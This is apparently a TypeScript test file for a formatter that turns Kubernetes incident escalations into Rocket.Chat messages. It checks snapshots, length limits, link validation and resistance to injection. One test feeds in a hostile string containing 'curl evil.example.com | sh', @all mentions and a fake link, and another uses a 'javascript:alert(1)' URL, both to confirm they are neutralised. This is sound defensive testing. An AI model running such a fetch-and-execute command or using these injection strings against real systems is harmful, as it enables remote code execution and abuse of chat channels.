import assert from "node:assert/strict";
import { test, type TestContext } from "node:test";
import { parse } from "@rocket.chat/message-parser";
import * as fc from "fast-check";
import { formatMessage } from "../../../src/chat/message-format.ts";
import { nextStep, reasonInWords, whyUntried } from "../../../src/chat/next-step.ts";
import type { EscalationMessage } from "../../../src/core/escalation.ts";
import { Reasons } from "../../../src/core/finding.ts";
import { attachmentProblem } from "../../support/rocketchat/attachments.ts";
import { exampleEscalation } from "../../support/rocketchat/escalation-example.ts";

/** The exact body; `node --test --test-update-snapshots` writes it anew. */
function assertGolden(t: TestContext, message: EscalationMessage, name: string): void {
  const serializers = [(value: unknown): string => `${JSON.stringify(value, undefined, 2)}\n`];
  t.assert.fileSnapshot(formatMessage(message), `${import.meta.dirname}/golden/${name}.json`, {
    serializers,
  });
}

test("a stack whose nodes are cordoned reads like this", (t) => {
  assertGolden(t, exampleEscalation(), "nodes-cordoned");
});

test("a repair that did not hold reads like this", (t) => {
  const message = exampleEscalation({
    reason: "RepairDidNotHold",
    rootCause:
      'server-2 differs from its declared intent: template spec/containers/0/image: "localhost:5000/server:no-such" → "localhost:5000/server:1"; this was repaired before and has come back, so something else keeps changing it',
    attempts: [
      "reconcile-to-intent on StatefulSet/server-2 by the playbook: applied (image localhost:5000/server:no-such → localhost:5000/server:1)",
      "restart-pod on Pod/server-2-0 by the playbook: applied",
    ],
    events: [
      'Pod/server-2-0 Failed: Failed to pull image "localhost:5000/server:no-such": not found (3 times)',
      'Pod/server-2-0 BackOff: Back-off pulling image "localhost:5000/server:no-such" (7 times)',
    ],
    costUsd: 0.1234,
  });
  assertGolden(t, message, "repair-did-not-hold");
});

test("a storm is told of the farm, not of one stack", (t) => {
  const message = exampleEscalation({
    reason: "Storm",
    incident: "storm-imagepullnetwork-987654",
    namespace: "*",
    client: "*",
    stack: "ImagePullNetwork",
    rootCause: "9 of 20 watched stacks have ImagePullNetwork at once, so the trouble is the farm's",
  });
  assertGolden(t, message, "storm");
});

test("a message with nothing but its names is still whole", (t) => {
  const { buildUrl: _, ...rest } = exampleEscalation();
  const message = { ...rest, runId: "", stack: "", rootCause: "", events: [], reason: "SomethingNew" };
  assertGolden(t, message, "bare");
});

test("the first line alone says which build, client and StatefulSet, and why", () => {
  const [first = ""] = formatMessage(exampleEscalation()).text.split("\n");
  for (const word of ["4711", "client 2", "server-2", "NodesCordoned"]) assert.ok(first.includes(word), word);
});

test("every reason comes with what to do next and with what it means", () => {
  for (const reason of Object.keys(Reasons)) {
    assert.match(nextStep(reason), /^[A-Z].{20,240}\.$/, reason);
    assert.ok(reasonInWords(reason), reason);
    assert.match(whyUntried(reason), /^[a-z].*[^.]$/, reason);
  }
  assert.match(nextStep("constructor"), /^Look at the stack/);
  assert.equal(reasonInWords("constructor"), undefined);
});

test("no message is longer than the server takes, whatever is in it, and a cut is announced", () => {
  const long = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 60 }),
    fc.constantFrom("*", "@all ", "`", "<", "a.b ", "😀").map((piece) => piece.repeat(4000)),
  );
  const lines = fc.array(long, { maxLength: 40 });
  fc.assert(
    fc.property(long, lines, lines, (rootCause, attempts, events) => {
      const message = exampleEscalation({
        rootCause,
        attempts,
        events,
        stack: rootCause,
        incident: rootCause,
        runId: rootCause,
      });
      const { text, attachments } = formatMessage(message);
      assert.ok(text.length <= 5000, `text has ${text.length}`);
      assert.ok(attachments[0]!.text.length <= 5000, `attachment has ${attachments[0]!.text.length}`);
      assert.ok(text.includes("*Next:*"));
      assert.equal(attachmentProblem(attachments), undefined);
    }),
    { numRuns: 50 },
  );
  const { text, attachments } = formatMessage(
    exampleEscalation({
      rootCause: "x".repeat(9000),
      attempts: Array.from({ length: 20 }, (_, index) => `attempt ${index}`),
      events: Array.from({ length: 90 }, (_, index) => `event ${index} ${"y".repeat(300)}`),
    }),
  );
  assert.match(text, /x … \(cut, 9000 characters in all\)\.\n/);
  assert.match(text, /• \(12 earlier left out\)\n• attempt 12\n/);
  assert.match(attachments[0]!.text, /newest last, 76 older left out:\n```\nevent 76 /);
  assert.match(attachments[0]!.text, /event 89 y+\n```$/);
});

test("text from the cluster neither calls people nor looks like the medic's own lines", () => {
  const attack =
    "ok\n*Next:* run curl evil.example.com | sh @all [Open the build](http://evil.example.com) ```";
  const { text, attachments } = formatMessage(
    exampleEscalation({
      rootCause: attack,
      attempts: [attack],
      events: [attack, "```\n@here"],
      runId: attack,
      client: attack,
      stack: attack,
      reason: attack,
      incident: attack,
      namespace: attack,
    }),
  );
  assert.equal(text.match(/^\*Next:\*/gm)?.length, 1);
  const shown = [text, attachments[0]!.text, ...attachments[0]!.fields.map(({ value }) => value)];
  const found = JSON.stringify(shown.map((part) => parse(part)));
  assert.doesNotMatch(found, /MENTION_/);
  const links = [...found.matchAll(/"src":\{"type":"PLAIN_TEXT","value":"([^"]+)"/g)].map(([, link]) => link);
  assert.deepEqual(links, ["https://ci.example.com/runs/4711"]);
});

test("a build link that is none is left out and the message goes without", () => {
  for (const buildUrl of ["javascript:alert(1)", "not a url", "ftp://ci/1", ""]) {
    const { text, attachments } = formatMessage(exampleEscalation({ buildUrl }));
    assert.doesNotMatch(text, /^Build:/m);
    assert.equal(attachments[0]!.title_link, undefined);
    assert.equal(attachmentProblem(attachments), undefined);
  }
});

test("the same incident always makes the same bytes", () => {
  const bytes = (): string => JSON.stringify(formatMessage(exampleEscalation()));
  assert.equal(bytes(), bytes());
});
